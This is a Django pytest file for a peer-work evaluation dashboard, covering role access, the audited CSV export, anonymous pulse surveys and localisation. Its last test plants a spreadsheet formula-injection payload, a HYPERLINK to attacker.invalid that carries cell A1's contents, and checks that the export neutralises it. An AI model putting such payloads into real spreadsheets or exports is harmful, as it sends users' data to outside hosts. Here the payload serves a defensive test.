from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from peerwork.audit.models import AuditEntry
from peerwork.core.roles import Role
from peerwork.evaluation import services
from peerwork.evaluation.models import PulseAnswer, PulseParticipation, PulseResponse

from .conftest import END, START, build_fixture, grow

Q2 = {"period": "custom", "start": START.isoformat(), "end": END.isoformat()}


def test_dashboard_shows_every_level_with_how_each_figure_is_computed(world):
    build_fixture(world)
    body = world.client(Role.MANAGER).get(reverse("evaluation:dashboard"), Q2).content.decode()
    for text in (
        "Individual level",
        "Service level",
        "Organisation level",
        "How this is computed",
        "Initiatives with peer workers in the early phases",
        "Adoption rate of proposals",
        "Accompaniments to services",
        'role="img"',
        "<title",
        "as a table",
        "withheld",
    ):
        assert text in body, text
    assert body.count("How this is computed") >= 30


def test_dashboard_is_for_managers_coordinators_and_peer_workers_the_export_for_managers(world):
    for role in (Role.COORDINATOR, Role.PEER_WORKER, Role.SENIOR_PEER_WORKER):
        assert world.client(role).get(reverse("evaluation:dashboard")).status_code == 200
    for role in (Role.PROFESSIONAL, Role.DPO):
        assert world.client(role).get(reverse("evaluation:dashboard")).status_code == 403
    for role in (Role.PEER_WORKER, Role.SENIOR_PEER_WORKER, Role.PROFESSIONAL, Role.DPO):
        assert world.client(role).get(reverse("evaluation:export")).status_code == 403


def test_period_ending_before_it_starts_is_explained(world):
    r = world.client(Role.MANAGER).get(
        reverse("evaluation:dashboard"), {"period": "custom", "start": "2026-06-01", "end": "2026-05-01"}
    )
    assert r.status_code == 200 and "The end date must be on or after the start date" in r.content.decode()


def test_unit_filter_from_another_organisation_is_refused(world, other_world):
    r = world.client(Role.MANAGER).get(reverse("evaluation:dashboard"), {"unit": other_world.team.pk})
    assert "Choose the whole organisation or a unit from the list" in r.content.decode()


def test_csv_export_is_audited_and_holds_every_figure(world):
    build_fixture(world)
    r = world.client(Role.MANAGER).get(reverse("evaluation:export"), Q2)
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    keys = {row[1]: row for row in rows[1:]}
    assert keys["adoption_rate"][3] == str(2 / 3)
    assert keys["engagements_active"][3] == "3"
    assert "pulse.acceptance.professionals" in keys and keys["pulse.acceptance.professionals"][3] == ""
    assert "I got my flat back" not in r.content.decode()  # closing words never leave in an export
    assert AuditEntry.objects.filter(action="export", object_type="evaluation.dashboard").count() == 1


@pytest.mark.parametrize(
    ("route", "role", "budget"),
    [
        ("evaluation:dashboard", Role.MANAGER, 38),
        ("evaluation:dashboard", Role.PEER_WORKER, 38),
        ("evaluation:export", Role.MANAGER, 37),
    ],
)
def test_dashboard_and_export_query_counts_are_flat(world, django_assert_max_num_queries, route, role, budget):
    """The same number of queries for the hand-computed world and for it grown by thirty of everything the
    dashboard counts (engagements, contacts, goal ratings, referrals, signals, initiatives, proposals, boards,
    pulse surveys and readiness rounds), for the whole organisation and, for managers, for one team."""
    build_fixture(world)
    grow(world, 1)  # one of everything, readiness rounds too
    client = world.client(role)
    # a peer worker's team filter needs three peer workers in the team (tested apart)
    queries = [Q2] if role == Role.PEER_WORKER else [Q2, {**Q2, "unit": world.team.pk}]
    for query in queries:
        client.get(reverse(route), query)
    counts = {}
    for query in queries:
        with django_assert_max_num_queries(budget) as one:
            client.get(reverse(route), query)
        counts[tuple(query)] = len(one.captured_queries)
    grow(world, 30)
    for query in queries:
        with django_assert_max_num_queries(counts[tuple(query)]):
            r = client.get(reverse(route), query)
        assert r.status_code == 200


# --- pulse survey -----------------------------------------------------------------------------------------


ALL_AGREE = {"acceptance": 4, "facilitation": 4, "fit": 5, "reflection": 0, "position": 3}


def test_answering_the_pulse_survey_is_anonymous_and_once(world):
    client = world.client(Role.PEER_WORKER)
    page = client.get(reverse("evaluation:pulse")).content.decode()
    assert "My colleagues treat what I know from my own experience as real knowledge." in page
    r = client.post(reverse("evaluation:pulse"), {"as": "peer_workers", **ALL_AGREE})
    assert r.status_code == 302
    assert PulseParticipation.objects.count() == 1
    response = PulseResponse.objects.get()
    assert response.group == "peer_workers"
    assert {f.name for f in PulseResponse._meta.get_fields()} & {
        "user",
        "created_at",
        "participation",
    } == set()
    assert PulseAnswer.objects.count() == 4  # "don't know" is not stored
    assert "You have answered this quarter's survey" in client.get(reverse("evaluation:pulse")).content.decode()
    r = client.post(reverse("evaluation:pulse"), {"as": "peer_workers", **ALL_AGREE})
    assert PulseResponse.objects.count() == 1
    entry = AuditEntry.objects.get(object_type="evaluation.pulseparticipation")
    assert entry.object_id != str(response.pk)


def test_missing_answer_shows_how_to_fix(world):
    r = world.client(Role.PROFESSIONAL).post(reverse("evaluation:pulse"), {"acceptance": 4})
    assert r.status_code == 200 and "There is a problem" in r.content.decode()
    assert not PulseResponse.objects.exists()


def test_person_with_two_roles_chooses_the_group(world):
    from tests.factories import MembershipFactory

    MembershipFactory(organisation=world.org, user=world.users[Role.PROFESSIONAL], role=Role.COORDINATOR)
    client = world.client(Role.PROFESSIONAL)
    page = client.get(reverse("evaluation:pulse") + "?as=managers").content.decode()
    assert "In the teams I lead" in page
    client.post(reverse("evaluation:pulse"), {"as": "managers", **ALL_AGREE})
    assert PulseResponse.objects.get().group == "managers"


def test_a_role_without_a_group_cannot_answer(world):
    survey = services.survey_for(world.org.pk)
    with pytest.raises(Exception):  # noqa: B017 — PermissionDenied
        services.submit_pulse(world.actor(Role.DPO), survey, group="managers", answers=ALL_AGREE)
    assert world.client(Role.DPO).get(reverse("evaluation:pulse")).status_code == 403


def test_results_below_three_are_withheld_with_a_message(world):
    for role in (Role.PEER_WORKER, Role.SENIOR_PEER_WORKER):
        world.client(role).post(reverse("evaluation:pulse"), {"as": "peer_workers", **ALL_AGREE})
    page = world.client(Role.MANAGER).get(reverse("evaluation:pulse")).content.decode()
    assert "fewer than 3 answers" in page and "Some results are withheld" in page
    assert "4.0" not in page  # the two peer workers' average is not shown

    from tests.conftest import verified_client
    from tests.factories import MembershipFactory, UserFactory

    third = UserFactory(username="third-peer")
    MembershipFactory(organisation=world.org, user=third, role=Role.PEER_WORKER)
    verified_client(third).post(reverse("evaluation:pulse"), {"as": "peer_workers", **ALL_AGREE})
    page = world.client(Role.MANAGER).get(reverse("evaluation:pulse")).content.decode()
    assert "4.0" in page and "3 answers" in page


def test_a_closed_survey_refuses_answers(world):
    from datetime import date

    old = services.survey_for(world.org.pk, date(2025, 2, 1))
    with pytest.raises(Exception, match="closed"):
        services.submit_pulse(world.actor(Role.PEER_WORKER), old, group="peer_workers", answers=ALL_AGREE)


def test_an_answer_off_the_scale_is_refused_with_nothing_saved(world):
    from django.core.exceptions import ValidationError

    survey = services.survey_for(world.org.pk)
    first = next(iter(ALL_AGREE))
    for wrong in ("agree", "7", "\x00"):
        with pytest.raises(ValidationError) as exc:
            services.submit_pulse(
                world.actor(Role.PEER_WORKER), survey, group="peer_workers", answers={**ALL_AGREE, first: wrong}
            )
        assert "Choose an answer from the scale." in exc.value.message_dict[first]
    assert not PulseParticipation.objects.exists()
    assert not PulseResponse.objects.exists() and not PulseAnswer.objects.exists()


@pytest.mark.parametrize(
    ("language", "texts"),
    [
        ("nb", ["Organisasjonsnivå", "Slik er det beregnet", "Pulsundersøkelse"]),
        ("da", ["Organisationsniveau", "Sådan er det beregnet", "Pulsmåling"]),
    ],
)
def test_dashboard_speaks_norwegian_and_danish(world, language, texts):
    build_fixture(world)
    client = world.client(Role.MANAGER)
    client.post(reverse("set_language"), {"language": language, "next": "/"})
    body = client.get(reverse("evaluation:dashboard"), Q2).content.decode()
    for text in texts:
        assert text in body, text


def test_csv_export_neutralises_formulas_in_free_text(world):
    build_fixture(world)
    payload = '=HYPERLINK("http://attacker.invalid/?"&A1,"Open")'
    world.team.name = payload
    world.team.save()
    r = world.client(Role.MANAGER).get(reverse("evaluation:export"), {**Q2, "unit": world.team.pk})
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    team_cells = [row[8] for row in rows[1:]]
    assert team_cells and all(cell == "'" + payload for cell in team_cells)
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
